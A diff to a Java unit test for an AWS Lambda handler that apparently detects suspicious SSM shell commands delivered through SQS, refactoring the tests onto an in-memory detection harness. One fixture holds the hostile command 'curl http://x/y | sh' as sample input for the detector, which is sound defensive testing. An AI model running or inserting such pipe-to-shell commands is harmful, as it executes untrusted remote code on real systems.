@@ -6,9 +6,7 @@ import com.amazonaws.services.lambda.runtime.events.SQSBatchResponse;
 import com.amazonaws.services.lambda.runtime.events.SQSEvent;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
-import io.runwatch.core.ingest.PayloadReport;
 import java.io.IOException;
-import java.nio.charset.StandardCharsets;
 import java.util.Arrays;
 import java.util.List;
 import org.junit.jupiter.api.Test;
@@ -17,6 +15,12 @@ class SqsDetectHandlerTest {
   private static final ObjectMapper JSON = new ObjectMapper();
 
   private final CapturingContext context = new CapturingContext();
+  private final InMemoryDetection ports =
+      new InMemoryDetection(java.time.Instant.parse("2025-02-19T16:33:00Z"));
+
+  private SqsDetectHandler handler() {
+    return new SqsDetectHandler(() -> ports.detection);
+  }
 
   private static SQSEvent.SQSMessage message(String id, String body) {
     SQSEvent.SQSMessage m = new SQSEvent.SQSMessage();
@@ -45,16 +49,16 @@ class SqsDetectHandlerTest {
             message("good-1", Events.text(Events.SEND_COMMAND)),
             message("poison-1", Events.brokenSendCommand()));
 
-    SQSBatchResponse response = new SqsDetectHandler().handleRequest(event, context);
+    SQSBatchResponse response = handler().handleRequest(event, context);
 
     assertThat(response.getBatchItemFailures()).isEmpty();
     JsonNode line = JSON.readTree(context.onlyLine());
-    assertThat(line.path("runwatch").asText()).isEqualTo("SqsDetectHandler");
+    assertThat(line.path("handler").asText()).isEqualTo("SqsDetectHandler");
     assertThat(line.path("messages").asInt()).isEqualTo(2);
     assertThat(line.path("commands").asInt()).isEqualTo(1);
     assertThat(line.path("poison").asInt()).isEqualTo(1);
     assertThat(line.path("failed").asInt()).isZero();
-    assertThat(line.path("errorKinds").path("MALFORMED_JSON").asInt()).isEqualTo(1);
+    assertThat(line.path("errors").get(0).path("kind").asText()).isEqualTo("MALFORMED_JSON");
     assertThat(context.onlyLine()).doesNotContain("bobson").doesNotContain("1.2.3.4");
   }
 
@@ -63,7 +67,7 @@ class SqsDetectHandlerTest {
     String whole = Events.text(Events.SEND_COMMAND);
     SQSEvent event = batch(message("cut-1", whole.substring(0, whole.length() / 2)));
 
-    SQSBatchResponse response = new SqsDetectHandler().handleRequest(event, context);
+    SQSBatchResponse response = handler().handleRequest(event, context);
 
     assertThat(response.getBatchItemFailures()).isEmpty();
     assertThat(JSON.readTree(context.onlyLine()).path("poison").asInt()).isEqualTo(1);
@@ -71,39 +75,33 @@ class SqsDetectHandlerTest {
 
   @Test
   void onlyMessagesWhoseProcessingThrewAreHandedBack() throws IOException {
-    // The real ingestion, followed by a step that fails for one message (as a store might).
-    SqsDetectHandler handler =
-        new SqsDetectHandler(
-            body -> {
-              PayloadReport found = PayloadReport.read(SqsDetectHandler.SOURCE, body);
-              if (new String(body, StandardCharsets.UTF_8).contains("i-9bb89e2b")) {
-                throw new IllegalStateException("store unavailable");
-              }
-              return found;
-            });
+    // The real detection; the notification service fails for the one message with a finding.
+    ports.content.script(
+        "f49a1fe5-d12b-4ac0-98bc-0e4bd83d70c0", "AWS-RunShellScript", "curl http://x/y | sh");
+    ports.notifier.failNext(100);
     SQSEvent event =
         batch(
-            message("good-1", Events.text(Events.SEND_COMMAND)),
-            message("throws-1", Events.text(Events.INVOCATION_STATUS)),
+            message("throws-1", Events.text(Events.SEND_COMMAND)),
+            message("status-1", Events.text(Events.INVOCATION_STATUS)),
             message("poison-1", Events.brokenSendCommand()));
 
-    SQSBatchResponse response = handler.handleRequest(event, context);
+    SQSBatchResponse response = handler().handleRequest(event, context);
 
     assertThat(failedIds(response)).containsExactly("throws-1");
     JsonNode line = JSON.readTree(context.onlyLine());
     assertThat(line.path("messages").asInt()).isEqualTo(3);
     assertThat(line.path("failed").asInt()).isEqualTo(1);
     assertThat(line.path("poison").asInt()).isEqualTo(1);
-    assertThat(line.path("commands").asInt()).isEqualTo(1);
+    assertThat(line.path("statuses").asInt()).isEqualTo(1);
   }
 
   @Test
   void emptyBatchStillLogsEveryCount() throws IOException {
-    SQSBatchResponse response = new SqsDetectHandler().handleRequest(new SQSEvent(), context);
+    SQSBatchResponse response = handler().handleRequest(new SQSEvent(), context);
 
     assertThat(response.getBatchItemFailures()).isEmpty();
     JsonNode line = JSON.readTree(context.onlyLine());
-    for (String count : List.of("messages", "poison", "failed", "records", "commands", "errors")) {
+    for (String count : List.of("messages", "poison", "failed", "records", "commands")) {
       assertThat(line.has(count)).as(count).isTrue();
       assertThat(line.path(count).asInt()).as(count).isZero();
     }
